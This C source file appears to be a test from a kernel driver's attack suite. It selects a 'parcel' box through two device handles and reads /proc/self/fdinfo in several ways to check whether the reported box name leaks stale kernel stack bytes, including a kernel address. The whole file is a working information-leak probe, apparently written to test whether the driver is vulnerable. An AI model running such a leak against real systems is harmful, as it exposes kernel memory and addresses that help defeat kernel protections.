// SPDX-License-Identifier: GPL-2.0-only
/*
 * Select a box, and ask /proc which one it is: the driver knows the name by its place on the stack
 * of a call that has long returned. What lies there now, while the answer is being written, is the
 * business of the kernel, and it is shown as the name, up to its first zero.
 *
 * What that is depends on how deep the calls are, so this asks in several ways.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

#define NAME		"letters"
#define KERNEL_SPACE	0xffff800000000000ULL
#define TRIES		16

enum { AT_ONCE, IN_PARTS, WAYS };

/* What /proc shows as the name */
static size_t shown_name(int file, int way, char *name, size_t size)
{
	static const char before[] = "parcel-box:\t", after[] = "\nparcel-rights:";
	char path[64], text[8192], *begin, *end;
	ssize_t part = 0, rest;
	int info;

	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", file);
	info = open(path, O_RDONLY);
	if (way == IN_PARTS)
		part = read(info, text, strlen(before));
	rest = pread(info, text + part, sizeof(text) - part, part);
	close(info);
	if (part < 0 || rest <= 0)
		could_not("cannot read %s", path);
	begin = memmem(text, part + rest, before, strlen(before));
	if (!begin)
		could_not("%s does not tell the box", path);
	begin += strlen(before);
	end = memmem(begin, text + part + rest - begin, after, strlen(after));
	if (!end || (size_t)(end - begin) > size)
		could_not("%s does not tell the rights", path);
	memcpy(name, begin, end - begin);
	return end - begin;
}

int main(int argc, char **argv)
{
	struct parcel_select select = { };
	char name[4096];
	size_t length, longest = 0, at;
	__u64 word, address = 0;
	int files[2], i, wrong = 0;
	__u32 box;

	attack_begin(argc, argv);
	files[0] = device_open();
	files[1] = device_open();
	box = named_box(files[0], NAME, 0600);
	select.handle = box;
	must("select", device_call(files[0], PARCEL_IOC_SELECT, &select));
	must("open", box_open(files[1], NAME, PARCEL_RIGHT_RECEIVE, &select.handle));
	must("select", device_call(files[1], PARCEL_IOC_SELECT, &select));

	for (i = 0; i < TRIES && !address; i++) {
		length = shown_name(files[i % 2], i / 2 % WAYS, name, sizeof(name));
		if (length == strlen(NAME) && !memcmp(name, NAME, length))
			continue;
		wrong++;
		longest = length > longest ? length : longest;
		for (at = 0; at + sizeof(word) <= length && !address; at += sizeof(word)) {
			memcpy(&word, name + at, sizeof(word));
			address = word >= KERNEL_SPACE ? word : 0;
		}
	}
	must("unlink", box_unlink(files[0], box));
	if (address)
		achieved("leaks", "%zu bytes of the kernel's stack, among them an address: %#llx",
			 length, (unsigned long long)address);
	if (longest)
		achieved("leaks", "%zu bytes of the kernel's stack, where the name should be",
			 longest);
	if (wrong)
		could_not("what is shown is no name, and nothing else");
	refused("it says \"%s\", which is the name of the box", NAME);
}
